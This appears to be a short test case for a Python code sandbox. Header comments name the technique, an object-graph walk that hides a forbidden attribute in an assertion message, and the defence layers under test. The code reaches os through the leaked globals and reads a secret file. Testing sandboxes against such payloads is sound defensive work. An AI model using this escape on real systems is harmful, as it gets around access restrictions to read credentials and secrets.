# class: object graph walk
# technique: a forbidden attribute in the message of an assertion
# layers: analyzer, interpreter, landlock, seccomp, identity
# code: user
# witness: secret
host = _items[0]["json"]
try:
    assert False, quit.__init__.__globals__
except AssertionError as error:
    g = error.args[0]
os = g["sys"].modules["os"]
return [{"json": {"reached": os.read(os.open(host["secret"], 0), 4096).decode()}}]
